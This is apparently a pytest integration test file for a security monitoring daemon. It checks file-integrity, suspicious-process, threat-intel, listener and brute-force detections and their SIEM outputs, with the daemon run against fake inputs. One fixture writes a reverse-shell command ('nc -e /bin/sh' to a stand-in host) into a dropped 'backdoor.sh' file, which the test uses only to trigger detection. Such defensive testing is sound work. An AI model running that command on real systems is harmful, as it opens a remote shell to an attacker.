"""A real monitor daemon process, driven through each detection; events are read back from its HTTP
API and its SIEM outputs (ECS JSON lines, CEF file, RFC 5424 over UDP to a receiver on loopback)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from prometheus_client.parser import text_string_to_metric_families

from conftest import ASSAY_BIN, listening_url, wait_for

REPO_ROOT = Path(__file__).resolve().parents[2]
LISTED_IP = "127.0.0.2"  # all of 127/8 is loopback on Linux: a "bad" address we can really connect to
BAD_SOURCE = "203.0.113.9"


@dataclass
class Daemon:
    proc: subprocess.Popen[str]
    url: str
    root: Path
    watched: Path
    siem_dir: Path
    auth_log: Path
    intel_dir: Path
    syslog_lines: list[str] = field(default_factory=list)

    def get(self, path: str) -> Any:
        with urllib.request.urlopen(self.url + path, timeout=10) as resp:
            body = resp.read()
        return json.loads(body) if not path.startswith("/metrics") else body.decode()

    def events(self) -> list[dict[str, Any]]:
        events: list[dict[str, Any]] = self.get("/api/events?limit=2000")
        return events

    def wait_for(self, predicate: Callable[[dict[str, Any]], bool], timeout: float = 30) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            for event in self.events():
                if predicate(event):
                    return event
            assert self.proc.poll() is None, "the daemon died"
            time.sleep(0.1)
        actions = sorted({(e["event.action"], str(e.get("file.path", ""))) for e in self.events()})
        raise AssertionError(f"no matching event within {timeout} s; saw {actions[:40]}")

    def metrics(self) -> dict[tuple[str, tuple[tuple[str, str], ...]], float]:
        out = {}
        for family in text_string_to_metric_families(self.get("/metrics")):
            for sample in family.samples:
                out[(sample.name, tuple(sorted(sample.labels.items())))] = sample.value
        return out


def _udp_receiver(lines: list[str]) -> tuple[socket.socket, int]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            try:
                data, _ = sock.recvfrom(65535)
            except OSError:
                return
            lines.append(data.decode())

    threading.Thread(target=serve, daemon=True).start()
    return sock, sock.getsockname()[1]


def start_daemon(root: Path, config: dict[str, Any], *extra: str) -> tuple[subprocess.Popen[str], str]:
    cfg_path = root / "security-config.json"
    cfg_path.write_text(json.dumps(config))
    proc = subprocess.Popen(
        [
            str(ASSAY_BIN),
            "--repo",
            str(root),
            "security",
            "monitor",
            "--config",
            str(cfg_path),
            "--http-port",
            "0",
            "--store",
            str(root / "assay.db"),
            *extra,
        ],
        cwd=root,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    return proc, listening_url(proc, "daemon")


def stop(proc: subprocess.Popen[str]) -> tuple[int, float]:
    started = time.monotonic()
    proc.send_signal(signal.SIGTERM)
    code = proc.wait(timeout=15)
    return code, time.monotonic() - started


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Daemon]:
    root = tmp_path_factory.mktemp("monitor")
    watched = root / "watched"
    (watched / "etc").mkdir(parents=True)
    (watched / "etc" / "app.conf").write_text("listen = 8080\n")
    (watched / "bin").mkdir()
    (watched / "bin" / "tool").write_text("#!/bin/sh\necho ok\n")
    (watched / "logs").mkdir()
    (watched / "logs" / "app.log").write_text("started\n")
    auth_log = root / "auth.log"
    auth_log.write_text(
        "Nov 23 10:00:00 host sshd[100]: Accepted publickey for deploy from 10.0.0.5 port 22 ssh2\n"
    )
    intel_dir = root / "intel"
    intel_dir.mkdir()
    # The "malware": a copy of sleep in a world-writable temp directory, its hash on the intel list.
    malware_dir = root / "tmpdir"
    malware_dir.mkdir()
    malware = malware_dir / "miner"
    shutil.copy2(shutil.which("sleep") or "/bin/sleep", malware)
    (intel_dir / "bad-ips.txt").write_text(f"# test list\n{LISTED_IP}\n198.51.100.0/24\n")
    (intel_dir / "hashes.txt").write_text(hashlib.sha256(malware.read_bytes()).hexdigest() + "\n")
    siem_dir = root / "siem"
    lines: list[str] = []
    sock, udp_port = _udp_receiver(lines)
    config = {
        "watch": [str(watched)],
        "interval": 600,
        "poll_interval": 0.3,
        "auth_logs": [str(auth_log)],
        "auth_threshold": 5,
        "intel_dir": str(intel_dir),
        "playbooks_dir": str(REPO_ROOT / "security" / "playbooks"),
        "pid_file": str(root / "monitor.pid"),
        "state_file": str(root / "monitor.json"),
        "siem": [
            {"format": "ecs", "path": str(siem_dir / "events.ecs.jsonl")},
            {"format": "cef", "path": str(siem_dir / "events.cef")},
            {"format": "syslog", "host": "127.0.0.1", "port": udp_port, "protocol": "udp"},
        ],
    }
    proc, url = start_daemon(root, config)
    d = Daemon(proc, url, root, watched, siem_dir, auth_log, intel_dir, lines)
    d.malware = malware  # type: ignore[attr-defined]
    try:
        yield d
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        sock.close()


def test_status_tells_what_is_watched(daemon: Daemon) -> None:
    status = daemon.get("/api/status")
    assert status["up"] is True
    assert status["watched"] == [str(daemon.watched)]
    assert status["realtime"] == [str(daemon.watched)]
    assert status["watches"] == 4  # watched/, etc/, bin/, logs/
    assert status["fallbacks"] == []
    assert status["auth_logs"] == {str(daemon.auth_log): True}
    assert status["intel"]["indicators"]["ip"] == 1
    assert status["intel"]["indicators"]["cidr"] == 1
    assert status["intel"]["indicators"]["sha256"] == 1
    assert daemon.get("/health") == {"status": "ok", "version": status["version"]}


def test_changed_file_is_reported_with_old_and_new_hash(daemon: Daemon) -> None:
    target = daemon.watched / "etc" / "app.conf"
    old = hashlib.sha256(target.read_bytes()).hexdigest()
    target.write_text("listen = 0.0.0.0:8080\n")
    event = daemon.wait_for(lambda e: e["event.action"] == "changed" and e["file.path"] == str(target))
    assert event["assay.old.sha256"] == old
    assert event["assay.new.sha256"] == hashlib.sha256(target.read_bytes()).hexdigest()
    assert event["labels.priority"] == "P1"
    assert event["rule.name"] == "file-integrity"
    assert event["@timestamp"].endswith("Z")


def test_permissions_added_and_removed_files(daemon: Daemon) -> None:
    tool = daemon.watched / "bin" / "tool"
    tool.chmod(0o4755)
    event = daemon.wait_for(
        lambda e: e["event.action"] == "attributes_changed" and e["file.path"] == str(tool)
    )
    assert (event["assay.old.mode"], event["assay.new.mode"]) == ("0o644", "0o4755")
    assert event["log.level"] == "high"  # setuid
    dropped = daemon.watched / "etc" / "backdoor.sh"
    dropped.write_text("nc -e /bin/sh evil 4444\n")
    daemon.wait_for(lambda e: e["event.action"] == "added" and e["file.path"] == str(dropped))
    dropped.unlink()
    daemon.wait_for(lambda e: e["event.action"] == "removed" and e["file.path"] == str(dropped))


def test_growing_log_is_not_a_violation(daemon: Daemon) -> None:
    log = daemon.watched / "logs" / "app.log"
    marker = daemon.watched / "etc" / "marker"
    with log.open("a") as fh:
        fh.write("more lines\n")
    marker.write_text("after the log grew\n")  # once this is seen, the log write was processed too
    daemon.wait_for(lambda e: e.get("file.path") == str(marker))
    assert not [e for e in daemon.events() if e.get("file.path") == str(log)]


def test_process_started_from_tmp_matching_intel_hash(daemon: Daemon) -> None:
    malware: Path = daemon.malware  # type: ignore[attr-defined]
    proc = subprocess.Popen([str(malware), "30"])
    try:
        event = daemon.wait_for(
            lambda e: e["event.action"] == "malicious_executable" and e.get("process.pid") == proc.pid
        )
        assert event["labels.priority"] == "P0"
        assert event["process.executable"] == str(malware)
        ww = daemon.wait_for(
            lambda e: e["event.action"] == "world_writable_executable" and e.get("process.pid") == proc.pid
        )
        assert ww["labels.priority"] == "P1" and ww["rule.name"] == "suspicious-process"
    finally:
        proc.kill()
        proc.wait()


def test_world_writable_directory_process(daemon: Daemon, tmp_path: Path) -> None:
    shm = Path("/dev/shm") if os.access("/dev/shm", os.W_OK) else None
    if shm is None:
        pytest.skip("SKIPPED LOUDLY: /dev/shm is not writable here")
    exe = shm / f"assay-test-{os.getpid()}"
    shutil.copy2(shutil.which("sleep") or "/bin/sleep", exe)
    try:
        proc = subprocess.Popen([str(exe), "30"])
    except PermissionError:
        exe.unlink()
        pytest.skip("SKIPPED LOUDLY: /dev/shm is mounted noexec")
    try:
        event = daemon.wait_for(
            lambda e: e["event.action"] == "world_writable_executable" and e.get("process.pid") == proc.pid
        )
        assert event["process.executable"] == str(exe)
    finally:
        proc.kill()
        proc.wait()
        exe.unlink()


def test_listener_on_a_new_port(daemon: Daemon) -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    port = server.getsockname()[1]
    try:
        event = daemon.wait_for(
            lambda e: e["event.action"] == "listener_added" and e.get("source.port") == port
        )
        assert event["process.pid"] == os.getpid()
        assert event["network.transport"] == "tcp"
    finally:
        server.close()


def test_connection_to_a_listed_ip(daemon: Daemon) -> None:
    server = socket.socket()
    server.bind((LISTED_IP, 0))
    server.listen()
    port = server.getsockname()[1]
    client = socket.create_connection((LISTED_IP, port))
    accepted, _ = server.accept()
    try:
        event = daemon.wait_for(
            lambda e: e["event.action"] == "connection_to_listed_ip" and e.get("destination.port") == port
        )
        assert event["destination.ip"] == LISTED_IP
        assert event["labels.priority"] == "P0"
        assert event["threat.indicator.ip"] == LISTED_IP
    finally:
        for s in (client, accepted, server):
            s.close()
    metrics = daemon.metrics()
    assert metrics[("security_iocs_detected", ())] >= 1


def test_burst_of_failed_logins(daemon: Daemon) -> None:
    with daemon.auth_log.open("a") as fh:
        for n in range(6):
            fh.write(
                f"Nov 23 10:01:0{n} host sshd[2{n}]: Failed password for invalid user admin "
                f"from {BAD_SOURCE} "
                f"port 5{n}000 ssh2\n"
            )
    event = daemon.wait_for(lambda e: e["event.action"] == "brute_force")
    assert event["source.ip"] == BAD_SOURCE
    assert event["labels.priority"] == "P1"
    metrics = daemon.metrics()
    assert metrics[("authentication_failures_total", (("source", BAD_SOURCE),))] == 6
    assert metrics[("security_authentication_burst", (("source", BAD_SOURCE),))] == 1


def test_metrics_count_events_and_watches(daemon: Daemon) -> None:
    daemon.wait_for(lambda e: e["event.action"] == "changed")
    metrics = daemon.metrics()
    assert metrics[("security_monitor_up", ())] == 1
    assert metrics[("security_monitor_watches", ())] == 4
    assert metrics[("security_monitor_fallback_paths", ())] == 0
    assert metrics[("file_integrity_violations_total", (("action", "changed"),))] >= 1
    assert metrics[("security_events_total", (("severity", "high"), ("type", "file")))] >= 1
    assert metrics[("security_intel_indicators", (("type", "ip"),))] == 1
    assert ("security_intel_age_seconds", ()) in metrics


def test_events_api_is_newest_first_and_limited(daemon: Daemon) -> None:
    events = daemon.get("/api/events?limit=3")
    assert len(events) == 3
    stamps = [e["@timestamp"] for e in events]
    assert stamps == sorted(stamps, reverse=True)
    with pytest.raises(urllib.error.HTTPError) as err:
        daemon.get("/api/events?limit=many")
    assert err.value.code == 400


def test_siem_outputs_carry_the_same_events(daemon: Daemon) -> None:
    changed = daemon.wait_for(lambda e: e["event.action"] == "changed")
    ecs = [json.loads(line) for line in (daemon.siem_dir / "events.ecs.jsonl").read_text().splitlines()]
    match = [d for d in ecs if d["event"]["id"] == changed["event.id"]]
    assert match and match[0]["file"]["path"] == changed["file.path"]
    assert match[0]["event"]["action"] == "changed"
    cef = (daemon.siem_dir / "events.cef").read_text().splitlines()
    line = next(x for x in cef if f"externalId={changed['event.id']}" in x)
    assert line.startswith("CEF:0|assay|assay-monitor|")
    assert f"filePath={changed['file.path']}" in line
    record = wait_for(
        lambda: next((x for x in daemon.syslog_lines if changed["event.id"] in x), None),
        10,
        "the syslog record of the changed event",
        0.1,
    )
    assert record.startswith("<83>1 ")  # authpriv (10) * 8 + error (3)
    assert " assay-monitor " in record and "[assay@32473 " in record


def test_p0_and_p1_events_open_incidents_with_playbook_steps(daemon: Daemon) -> None:
    daemon.wait_for(lambda e: e["event.action"] == "changed")
    out = subprocess.run(
        [
            str(ASSAY_BIN),
            "--repo",
            str(daemon.root),
            "incident",
            "list",
            "--store",
            str(daemon.root / "assay.db"),
            "--format",
            "json",
        ],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert out.returncode == 0, out.stderr
    incidents = json.loads(out.stdout)["incidents"]
    changed = [i for i in incidents if i["title"].startswith("file.changed:")]
    assert changed and changed[0]["priority"] == "P1" and changed[0]["playbook"] == "file-integrity"
    assert "1. [ ] Check whether a deployment" in changed[0]["body"]


def test_sighup_reloads_intel(daemon: Daemon) -> None:
    (daemon.intel_dir / "more.txt").write_text("192.0.2.77\n192.0.2.78\n")
    daemon.proc.send_signal(signal.SIGHUP)
    wait_for(
        lambda: daemon.get("/api/status")["intel"]["indicators"]["ip"] == 3, 15, "3 IPs after SIGHUP", 0.1
    )
    assert daemon.get("/api/status")["intel"]["indicators"]["ip"] == 3


def test_zy_every_detection_reached_the_siem_outputs(daemon: Daemon) -> None:
    """Runs after the detection tests above (file order): each detection's event, as the API shows it,
    is in the ECS JSON lines, the CEF file and the syslog receiver."""
    wanted = {"changed", "malicious_executable", "listener_added", "connection_to_listed_ip", "brute_force"}
    by_action = {e["event.action"]: e for e in daemon.events() if e["event.action"] in wanted}
    assert set(by_action) == wanted
    ecs_ids = {
        json.loads(line)["event"]["id"]
        for line in (daemon.siem_dir / "events.ecs.jsonl").read_text().splitlines()
    }
    cef_text = (daemon.siem_dir / "events.cef").read_text()
    for action, event in by_action.items():
        assert event["event.id"] in ecs_ids, action
        assert f"externalId={event['event.id']}" in cef_text, action
        assert any(event["event.id"] in line for line in daemon.syslog_lines), action


def test_zz_sigterm_stops_within_five_seconds(daemon: Daemon) -> None:
    pid_file = daemon.root / "monitor.pid"
    assert int(pid_file.read_text()) == daemon.proc.pid
    code, seconds = stop(daemon.proc)
    assert code == 0
    assert seconds < 5
    assert not pid_file.exists()
